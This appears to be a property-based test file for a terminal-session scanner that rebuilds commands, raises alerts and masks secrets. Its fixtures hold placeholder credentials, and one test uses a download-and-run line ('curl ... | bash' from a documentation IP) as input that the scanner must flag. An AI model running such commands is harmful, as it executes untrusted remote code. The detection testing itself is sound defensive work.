"""The engine's fast paths give exactly what the plain paths give.

- `SessionRebuilder.feed_lines` (what the engine uses) against `feed`: the same lines as text, each command as its
  logical lines with where they are, and the same state afterwards.
- The engine's bulk-built SanitizedLine against the dataclass constructor.
- The masker's cache of clean trigger lines: masking with it warm gives what masking with it empty gives, and it
  never keeps a line that was masked or that left state behind.
"""

from __future__ import annotations

import functools
import gc
import itertools
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sessionguard.masking import masker
from sessionguard.masking.masker import SecretMasker
from sessionguard.rules import RulePack
from sessionguard.session import terminal
from sessionguard.session.engine import SanitizedLine, SessionEngine, _sanitized_lines
from sessionguard.session.records import SessionEvent, read_input
from sessionguard.session.terminal import Command, CommandSpan, SessionRebuilder, TranscriptLine, logical_lines

EVENTS = Path(__file__).resolve().parents[2] / "events"
SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Pieces of terminal lines that exercise every branch of the rebuilder: prompts (strong, weak, mid-line),
# continuations, quotes, heredocs, compound commands, escapes, backspaces, embedded newlines, shell switches.
PIECES = [
    "sh-4.2$ ",
    "[ssm-user@ip-10-0-1-23 ~]$ ",
    "[root@ip-10-0-1-23 log]# ",
    "ubuntu@ip-10-0-1-5:~$ ",
    "$ ",
    "# ",
    "host% ",
    "> ",
    ">",
    "ls -la",
    "echo 'a",
    "b'",
    '"',
    "\\",
    "cat <<EOF",
    "EOF",
    "if true; then",
    "fi",
    " | ",
    " && ",
    "sudo -i",
    "exit",
    "bash",
    "mysql -u admin -pS3cr3tPassw0rd",
    "password=hunter2hunter2",
    "total 12",
    "50% done",
    "\x1b]0;title\x07",
    "\x1b[1;32m",
    "xx\b\b",
    "\n",
    "\r",
    " ",
    "{",
    "}",
    "$(",
    ")",
]
raw_line = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)
events = st.lists(st.lists(raw_line, max_size=6), min_size=1, max_size=5)

TRIGGER_LINES = [
    "sudo yum update -y",
    "journalctl -u nginx --no-pager",
    "mysql -u admin -pS3cr3tPassw0rd -h db",
    "curl -u deploy:hunter2hunter2 https://x/api",
    "AWS Secret Access Key [None]: ",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "-----BEGIN RSA PRIVATE KEY-----",
    "MIIEowIBAAKCAQEA1234567890abcdefghijABCDEFGHIJ",
    "-----END RSA PRIVATE KEY-----",
    '"Type": "SecureString",',
    '"Value": "s3cr3t-Valu3",',
    "export TOKEN=abc123def456",
    "ls -la",
    "sudo",
]


def lean_view(items: list[TranscriptLine | Command]) -> tuple[list[str], list[CommandSpan]]:
    """What feed_lines promises, derived from feed(): output lines as text, each command as its logical lines."""
    texts: list[str] = []
    commands: list[CommandSpan] = []
    for item in items:
        if isinstance(item, Command):
            lines = logical_lines(item.text)
            texts += lines
            commands.append((len(texts), item, len(lines)))
        elif item.kind == "output":
            texts.append(item.text)
    return texts, commands


def feed_lines(rebuilder: SessionRebuilder, lines: list[str]) -> tuple[list[str], list[CommandSpan]]:
    texts: list[str] = []
    commands: list[CommandSpan] = []
    rebuilder.feed_lines(lines, texts, commands)
    return texts, commands


def state(rebuilder: SessionRebuilder) -> tuple[object, ...]:
    return tuple(getattr(rebuilder, name) for name in SessionRebuilder.__slots__ if name not in ("_lean", "_commands"))


@SETTINGS
@given(events=events)
def test_feed_lines_is_feed_as_texts(events: list[list[str]]) -> None:
    full, lean = SessionRebuilder(), SessionRebuilder()
    for lines in events:
        assert feed_lines(lean, lines) == lean_view(full.feed(lines))
        assert state(lean) == state(full)
    assert lean.flush() == full.flush()


@SETTINGS
@given(events=events, lean_first=st.lists(st.booleans(), min_size=5, max_size=5))
def test_feed_and_feed_lines_can_be_mixed_on_one_rebuilder(events: list[list[str]], lean_first: list[bool]) -> None:
    mixed, full = SessionRebuilder(), SessionRebuilder()
    for lines, lean in zip(events, lean_first, strict=False):
        expected = full.feed(lines)
        got = feed_lines(mixed, lines) if lean else mixed.feed(lines)
        assert got == (lean_view(expected) if lean else expected)


@SETTINGS
@given(text=st.lists(st.sampled_from(["a", "bc", " ", "\x08", "\x08\x08", "é", "$ "]), max_size=12).map("".join))
def test_backspace_replay_is_the_screen_replay(text: str) -> None:
    """The typo fast path of clean_terminal_text gives what the general line-editing replay gives."""
    expected = terminal._apply_line_editing(terminal._STRIP.sub("", text)) if "\x08" in text else text
    assert terminal.clean_terminal_text(text) == expected
    if "\x08" in text and " \x08" not in text:
        assert terminal._replay_backspaces(text) == expected


@SETTINGS
@given(
    title=st.text(max_size=12) | st.sampled_from(["a" * 4094, "a" * 4095, "a" * 4096]),
    end=st.sampled_from(["\x07", "\x1b\\", ""]),
    rest=st.lists(st.sampled_from(["sh-4.2$ ls", "\x07", "\x1b[1m", "é", "\x08", " "]), max_size=4).map("".join),
)
def test_title_removal_is_the_general_clean_up(title: str, end: str, rest: str) -> None:
    """The xterm-title fast path of clean_terminal_text gives what the general path gives."""
    raw = "\x1b]0;" + title + end + rest
    text = raw
    if not text.isascii() and terminal._SURROGATE.search(text):
        text = terminal._SURROGATE.sub("\ufffd", text)
    text = terminal._STRIP.sub("", text).replace("\n", " ")
    if "\x08" in text or "\r" in text or "\x1b" in text:
        text = terminal._apply_line_editing(text)
    assert terminal.clean_terminal_text(raw) == text


def test_engine_lines_are_the_named_tuple_values() -> None:
    lines = _sanitized_lines("s-1", "command", ["a", "b"], "2026-11-26T12:00:00Z")
    expected = [SanitizedLine("s-1", "command", text, "2026-11-26T12:00:00Z") for text in ("a", "b")]
    assert lines == expected
    assert [hash(line) for line in lines] == [hash(line) for line in expected]
    assert [repr(line) for line in lines] == [repr(line) for line in expected]
    first = lines[0]
    assert isinstance(first, SanitizedLine)
    assert first.text == "a"
    assert first.event_time == "2026-11-26T12:00:00Z"
    with pytest.raises(AttributeError):
        first.text = "changed"  # type: ignore[misc]


def _per_event(pack: RulePack, events: list[SessionEvent]) -> list[object]:
    engine = SessionEngine(pack)
    out: list[object] = []
    for event in events:
        out += engine.scan_event(event)
    return [*out, *engine.finish(), engine.stats]


def _batched(pack: RulePack, events: list[SessionEvent]) -> list[object]:
    engine = SessionEngine(pack)
    return [*engine.scan(events), *engine.finish(), engine.stats]


BATCH_SESSIONS = ["s-1", "s-2"]


@SETTINGS
@given(
    events=st.lists(
        st.tuples(st.sampled_from(BATCH_SESSIONS), st.lists(raw_line | st.sampled_from(TRIGGER_LINES), max_size=6)),
        max_size=12,
    )
)
def test_batched_scan_is_scan_event_on_each(events: list[tuple[str, list[str]]]) -> None:
    """Batches (runs of one session's events) give the same lines, alerts and stats as one event at a time."""
    pack = _pack()
    session_events = [
        SessionEvent(session_id=session, lines=tuple(lines), event_time=f"t{index}", user_arn="arn:aws:sts::1:x")
        for index, (session, lines) in enumerate(events)
    ]
    assert _batched(pack, session_events) == _per_event(pack, session_events)


def test_batched_scan_is_scan_event_on_each_for_every_fixture() -> None:
    pack = _pack()
    paths = [*EVENTS.glob("session-*.jsonl"), *EVENTS.glob("*log-events.json"), *EVENTS.glob("transcript-*.log")]
    assert len(paths) >= 6
    for path in sorted(paths):
        items = read_input(path.read_text(), path.name)
        session_events = [item for item in items if isinstance(item, SessionEvent)]
        assert session_events, path.name
        assert _batched(pack, session_events) == _per_event(pack, session_events), path.name


@pytest.mark.parametrize("enabled", [True, False])
def test_the_collector_is_left_as_it_was(enabled: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """The engine pauses cyclic GC while it scans (see engine._cyclic_gc_paused) and leaves it as it found it,
    also when a scan fails."""
    engine = SessionEngine(_pack())
    was = gc.isenabled()
    (gc.enable if enabled else gc.disable)()
    try:
        engine.scan_event(SessionEvent(session_id="s", lines=("sh-4.2$ ls", "a")))
        assert gc.isenabled() is enabled
        engine.finish()
        assert gc.isenabled() is enabled
        monkeypatch.setattr(SessionRebuilder, "feed_lines", lambda self, lines, texts, commands: 1 / 0)
        with pytest.raises(ZeroDivisionError):
            engine.scan_event(SessionEvent(session_id="s", lines=("x",)))
        assert gc.isenabled() is enabled
    finally:
        (gc.enable if was else gc.disable)()


def test_a_batch_is_one_session() -> None:
    engine = SessionEngine(_pack())
    with pytest.raises(ValueError, match="one session"):
        engine.scan_batch([SessionEvent(session_id="a", lines=("x",)), SessionEvent(session_id="b", lines=("y",))])


@functools.cache
def _pack() -> RulePack:
    return RulePack.load()


def test_engine_output_is_the_same_whatever_the_rebuilder_path() -> None:
    pack = RulePack.load()
    lines = ("sh-4.2$ curl -s http://198.51.100.7/x.sh | bash", "output", "sh-4.2$ echo 'a", "> b'", "done")
    event = SessionEvent(session_id="s", lines=lines, event_time="t")
    engine = SessionEngine(pack)
    got = engine.scan_event(event) + engine.finish()
    kinds = [(item.kind, item.text) for item in got if isinstance(item, SanitizedLine)]
    assert kinds == [
        ("command", "curl -s http://198.51.100.7/x.sh | bash"),
        ("output", "output"),
        ("command", "echo 'a"),
        ("command", "b'"),
        ("output", "done"),
    ]
    assert [type(item).__name__ for item in got].index("CommandAlert") == 1  # right after its command's line


@SETTINGS
@given(
    lines=st.lists(st.sampled_from(TRIGGER_LINES), max_size=12),
    cuts=st.lists(st.integers(0, 12), max_size=3),
    warm=st.lists(st.sampled_from(TRIGGER_LINES), max_size=12),
)
def test_clean_line_cache_changes_nothing(lines: list[str], cuts: list[int], warm: list[str]) -> None:
    bounds = [0, *sorted(cuts), len(lines)]
    events = [lines[start:stop] for start, stop in itertools.pairwise(bounds)]

    def run() -> tuple[list[str], dict[str, int]]:
        masker = SecretMasker()
        out = [text for event in events for text in masker.mask_lines(event)]
        return out, dict(masker.counts)

    masker.CLEAN_LINES.clear()
    cold = run()
    SecretMasker().mask_lines(warm)  # fill the cache with whatever other sessions saw
    assert run() == cold
    one_by_one = SecretMasker()
    assert cold[0] == [one_by_one.mask(text) for text in lines]
    for text in lines:
        if text.encode() in masker.CLEAN_LINES:
            assert SecretMasker().mask(text) == text


def test_clean_line_cache_keeps_no_masked_line_and_no_key_block() -> None:
    masker.CLEAN_LINES.clear()
    SecretMasker().mask_lines(
        ["ls", "sudo yum update -y", "mysql -u a -pS3cr3tPassw0rd", "-----BEGIN RSA PRIVATE KEY-----", "x"]
    )
    assert {b"sudo yum update -y"} == masker.CLEAN_LINES
